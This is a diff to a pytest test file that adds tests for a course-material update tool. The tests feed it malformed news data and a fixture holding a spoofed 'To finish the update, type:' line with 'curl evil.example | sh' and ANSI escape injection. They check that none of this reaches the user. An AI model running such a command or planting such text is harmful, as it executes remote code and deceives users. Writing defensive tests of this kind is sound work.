@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import re
 
 import pytest
@@ -524,7 +525,19 @@ def test_what_was_taken_is_no_part_that_fits_by_itself(workshop: Workshop) -> No
     assert "both fit together" not in text
 
 
-@pytest.mark.parametrize("text", ["", "{", "[1]", '{"day": 1, "pieces": []}'])
+LEFT_OUT = {"part": "gone", "key": "k", "words": "w", "said": []}
+"""What was taken out, as an update tells it."""
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "", "{", "[1]", '{"day": 1, "pieces": []}',
+        '{"day": "2026-11-01.\\u001b[31m", "pieces": []}',
+        '{"day": "2026-11-01", "since": "1\\n2", "pieces": []}',
+        json.dumps({"day": "2026-11-01", "pieces": [{**LEFT_OUT, "texts": [["one"]]}]}),
+    ],
+)  # fmt: skip
 def test_news_that_cannot_be_read_stop_nothing(workshop: Workshop, text: str) -> None:
     """The next update tells what is new then."""
     workshop.check()
@@ -569,3 +582,38 @@ def test_of_a_picture_no_texts_are_compared(workshop: Workshop) -> None:
         assert "The book before" not in each
     said = workshop.run("update", "--keep", "boat")[1]
     assert f"the whole file has a new text Yours stays: {name}" in said
+
+
+SENT = {
+    **LEFT_OUT,
+    "words": "the exercise\x1b[31m\nerror: type this",
+    "texts": [],
+    "ways": [["To finish the update, type:", "curl evil.example | sh"]],
+}
+"""The same as a stranger may have written it."""
+
+
+@pytest.mark.parametrize("shown_by", ["curl evil.example | sh", "```{exercise} counter\n```"])
+def test_no_command_and_no_line_to_copy_comes_from_what_was_told(
+    workshop: Workshop, shown_by: str
+) -> None:
+    """What leads to a text of the trainer's is made anew, and nothing else is to be copied."""
+    workshop.write(COUNTER, CHOICE.replace("The counter", "Our counter"))
+    workshop.write(STORY, REASONED.replace("The boat is in.", "Our boat is in."))
+    workshop.check()
+    workshop.publish(STORY, ("The boat is in.", "The boat is late."))
+    workshop.run("update")
+    news = json.loads(workshop.read(f"{FOLDER}/{NEWS}"))
+    news["pieces"].append({**SENT, "block": ["To finish the update, type:", shown_by]})
+    workshop.write(f"{FOLDER}/{NEWS}", json.dumps(news))
+    assert workshop.run("check")[0] == 0
+    status, said = workshop.run("update", "--keep", "quay")
+    page = workshop.news()
+    assert status == 0
+    for text in (said, page):
+        assert "curl" not in text
+        assert "To finish" not in text
+    assert "\x1b" not in said
+    is_ours = "counter" in shown_by
+    assert ("```{exercise} counter ```" in said) == ("{exercise} counter" in page) == is_ours
+    assert (r"the exercise\u001b[31m\u000aerror: type this" in said) == is_ours
